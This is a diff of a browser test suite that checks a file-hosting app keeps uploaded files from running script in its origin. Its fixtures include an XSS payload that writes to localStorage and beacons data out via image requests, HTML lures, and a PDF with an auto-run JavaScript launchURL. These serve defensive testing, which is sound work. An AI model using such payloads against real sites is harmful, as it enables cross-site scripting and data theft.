@@ -9,7 +9,7 @@ import { fillLogin, hasChromium, openAs, openBrowser } from './support/browser.j
 import { dialog, row } from './support/screen.js';
 import { openStage } from './support/stage.js';
 
-/** What a script in somebody's file would do if it were let. */
+/** What a script in a file would do if it could run. */
 const attack = (beacon: string): string => `
   const tell = (what) => { new Image().src = '${beacon}/' + what; };
   try { localStorage.setItem('stolen', 'yes'); tell('storage'); } catch {}
@@ -19,7 +19,7 @@ const attack = (beacon: string): string => `
   tell('script');
 `;
 
-/** What leaves by itself, without a script. */
+/** Requests that a page sends without a script. */
 const lures = (beacon: string): string =>
   `<img src="${beacon}/img"><link rel="stylesheet" href="${beacon}/css"><iframe src="${beacon}/frame"></iframe>`;
 
@@ -47,7 +47,7 @@ function payloads(beacon: string): Record<string, string> {
   };
 }
 
-/** Opens an address by itself as soon as it is shown, where a viewer allows that. */
+/** Opens an address by itself as soon as it is shown, if a viewer allows that. */
 function pdf(beacon: string): string {
   return `%PDF-1.4
 1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('${beacon}/pdf'\\);)>>>>endobj
@@ -57,7 +57,7 @@ trailer<</Root 1 0 R>>
 %%EOF`;
 }
 
-describe.skipIf(!hasChromium)('what is in a file never acts in our origin', () => {
+describe.skipIf(!hasChromium)('the content of a file never acts in the origin of the app', () => {
   const stage = openStage();
   let page: Page;
   let listener: Server;
@@ -89,19 +89,30 @@ describe.skipIf(!hasChromium)('what is in a file never acts in our origin', () =
   });
 
   const NAMES = Object.keys(payloads('http://beacon'));
+  /** One of each kind that the app shows in its own way. */
+  const VIEWED = [
+    'page.html',
+    'drawing.svg',
+    'program.js',
+    'notes.md',
+    'paper.pdf',
+    'photo.png',
+    'sound.mp3',
+  ];
   const rawUrl = (name: string) => `/api/raw/${encodeURIComponent(name)}?inline=true`;
 
-  /** By an error page of our own: what a script left behind in our origin, and what it told others. */
+  /**
+   * Checks, from a page of our origin without any script, what was stored in this origin and what was sent elsewhere.
+   */
   async function expectNothingStolen(): Promise<void> {
     expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
-    await page.goto('/404');
-    await page.getByRole('button', { name: 'Go to my files' }).waitFor();
+    await page.goto('/health');
     expect(await page.evaluate(() => localStorage.getItem('stolen'))).toBeNull();
     expect((await page.context().cookies()).map(({ name }) => name)).not.toContain('stolen');
     expect(heard).toEqual([]);
   }
 
-  test('the payload works where nobody holds it back, so the silence below means something', async () => {
+  test('the payload works without protection, so the checks below would notice it', async () => {
     const own = await openBrowser(stage.browser, stage.satchel);
     await own.goto(`${beacon}/control.html`);
     await expect.poll(() => heard).toEqual(expect.arrayContaining(['/script', '/storage', '/img', '/css']));
@@ -109,43 +120,78 @@ describe.skipIf(!hasChromium)('what is in a file never acts in our origin', () =
     await own.context().close();
   });
 
+  test('no code of the page can turn text into HTML or the address of a script', async () => {
+    await page.goto('/404');
+    await page.getByRole('button', { name: 'Go to my files' }).waitFor();
+    const tries = await page.evaluate(() => {
+      const attempt = (write: () => void): string => {
+        try {
+          write();
+          return 'written';
+        } catch (error) {
+          return (error as Error).name;
+        }
+      };
+      return [
+        attempt(() => {
+          document.createElement('div').innerHTML = '<b>bold</b>';
+        }),
+        attempt(() => {
+          document.createElement('iframe').srcdoc = '<b>bold</b>';
+        }),
+        attempt(() => {
+          document.createElement('script').src = '/static/own.js';
+        }),
+        attempt(() => void new DOMParser().parseFromString('<b>bold</b>', 'text/html')),
+        attempt(() => document.createElement('div').insertAdjacentHTML('beforeend', '<b>bold</b>')),
+      ];
+    });
+    expect(tries).toEqual(Array.from({ length: 5 }, () => 'TypeError'));
+  });
+
   test.each(NAMES)('FB-63, FB-65, R-18: %s, opened by its address', async (name) => {
-    // What is not shown is downloaded: then the page stays where it was.
+    // A file that is not shown is downloaded: then the page stays at its address.
     await page.goto(rawUrl(name)).catch(() => undefined);
     const opened = page.url().includes('/api/raw/');
     if (opened) expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
     await expectNothingStolen();
   });
 
-  test.each(NAMES)('R-18: %s, put into a page of ours as image, frame, object and script', async (name) => {
+  test('R-18: all of them, embedded in a page of our origin as image, frame, object and script', async () => {
     await page.goto('/404');
     await page.getByRole('button', { name: 'Go to my files' }).waitFor();
-    await page.evaluate(async (address) => {
-      const ended = (element: HTMLElement) =>
-        new Promise((resolve) => {
-          element.onload = resolve;
-          element.onerror = resolve;
-          addEventListener('securitypolicyviolation', resolve, { once: true });
-        });
-      const make = (tag: string, attribute: string) => {
-        const element = document.createElement(tag);
-        const end = ended(element);
-        element.setAttribute(attribute, address);
-        document.body.append(element);
-        return end;
-      };
-      await Promise.all([
-        make('img', 'src'),
-        make('iframe', 'src'),
-        make('object', 'data'),
-        make('embed', 'src'),
-        make('script', 'src'),
-      ]);
-    }, rawUrl(name));
+    for (const name of NAMES)
+      await page.evaluate(async (address) => {
+        const ended = (element: HTMLElement) =>
+          new Promise((resolve) => {
+            element.onload = resolve;
+            element.onerror = resolve;
+            addEventListener('securitypolicyviolation', resolve, { once: true });
+          });
+        const make = (tag: string, attribute: string) => {
+          const element = document.createElement(tag);
+          const end = ended(element);
+          try {
+            element.setAttribute(attribute, address);
+          } catch (error) {
+            // With Trusted Types the page cannot even set it as the address of a script.
+            return (error as Error).name;
+          }
+          document.body.append(element);
+          return end;
+        };
+        await Promise.all([
+          make('img', 'src'),
+          make('iframe', 'src'),
+          make('object', 'data'),
+          make('embed', 'src'),
+          make('script', 'src'),
+        ]);
+      }, rawUrl(name));
     await expectNothingStolen();
   });
 
-  test.each(NAMES)('FB-60: %s, opened in the app', async (name) => {
+  test.each(VIEWED)('FB-60: %s, opened in the app', async (name) => {
     await page.goto(`/files/${encodeURIComponent(name)}`);
     await page
       .getByRole('textbox', { name })
@@ -156,20 +202,7 @@ describe.skipIf(!hasChromium)('what is in a file never acts in our origin', () =
     await expectNothingStolen();
   });
 
-  test('R-17: each answer with a file is shut in: no type is guessed, nothing runs, no other site shows it', async () => {
-    for (const name of NAMES) {
-      const answer = await page.context().request.get(rawUrl(name));
-      const headers = answer.headers();
-      expect(answer.status(), name).toBe(200);
-      expect(headers['x-content-type-options'], name).toBe('nosniff');
-      expect(headers['content-security-policy'], name).toContain("default-src 'none'");
-      if (name !== 'paper.pdf') expect(headers['content-security-policy'], name).toMatch(/^sandbox;/);
-      expect(headers['content-security-policy'], name).not.toContain('allow-scripts');
-      expect(headers['content-type'], name).not.toMatch(/html|xml(?!\+)|javascript/);
-    }
-  });
-
-  test('R-20: the page itself allows no code but its own', async () => {
+  test('R-20: the policy of the page allows only its own code', async () => {
     const policy = (await page.context().request.get('/')).headers()['content-security-policy'] ?? '';
     expect(policy).toContain("default-src 'none'");
     expect(policy).toMatch(/script-src 'self'(;| 'nonce| 'sha256)/);
@@ -179,7 +212,7 @@ describe.skipIf(!hasChromium)('what is in a file never acts in our origin', () =
     expect(policy).not.toMatch(/(?:script|connect|default)-src[^;]*(?:\*|https?:)/);
   });
 
-  test('and its own pages never ask for more than that allows', async () => {
+  test('the pages of the app never violate that policy', async () => {
     const own = await openBrowser(stage.browser, stage.satchel);
     const refused: string[] = [];
     own.on('console', (message) => {
